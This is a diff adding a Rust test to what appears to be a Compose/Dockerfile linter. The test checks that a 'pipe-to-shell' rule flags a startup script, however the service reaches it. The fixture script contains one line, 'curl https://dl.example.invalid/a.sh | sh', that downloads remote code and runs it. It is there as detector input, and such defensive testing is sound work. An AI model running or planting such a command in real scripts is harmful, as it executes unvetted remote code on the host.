@@ -195,3 +195,31 @@ fn a_dockerfile_that_is_there_and_cannot_be_judged_stops() {
         assert!(found[0].ends_with("syntax-error"), "{found:?}");
     }
 }
+
+#[test]
+fn what_a_service_starts_is_followed_into_the_image_that_is_built_for_it() {
+    let dockerfile = "FROM alpine:3.20\nWORKDIR /app\nCOPY . .\nCMD [\"true\"]\n";
+    let inline = "services:\n  web:\n    build:\n      dockerfile_inline: |\n        FROM alpine:3.20\n        COPY run.sh /srv/\n        ENTRYPOINT [\"sh\"]\n    command: /srv/run.sh\n";
+    let named = |start: &str| format!("services:\n  web:\n    build: app\n{start}");
+    let script = "#!/bin/sh\nset -e\ncurl https://dl.example.invalid/a.sh | sh\n";
+    for (compose, script_at, is_found) in [
+        (named("    command: [\"./run.sh\"]\n"), "app/run.sh", true),
+        (named("    entrypoint: sh\n    command: run.sh\n"), "app/run.sh", true),
+        (named("    working_dir: /\n    command: sh /app/run.sh\n"), "app/run.sh", true),
+        (named("    healthcheck: {test: \"/app/run.sh\"}\n"), "app/run.sh", true),
+        (named("    command: [\"./other.sh\"]\n"), "app/run.sh", false),
+        (named(""), "app/run.sh", false),
+        (inline.to_owned(), "run.sh", true),
+    ] {
+        let project = Project::with(&[
+            ("compose.yaml", &compose),
+            ("app/Dockerfile", dockerfile),
+            (script_at, script),
+        ]);
+        let run = project.run(&["lint", "--quiet", "--format", "short", "compose.yaml"]);
+        let found = run.out.lines().filter(|line| line.contains("[pipe-to-shell]"));
+        let found: Vec<&str> = found.collect();
+        assert_eq!(found.len(), usize::from(is_found), "{compose}\n{}", run.out);
+        assert!(!is_found || found[0].starts_with(&format!("{script_at}:3:")), "{found:?}");
+    }
+}
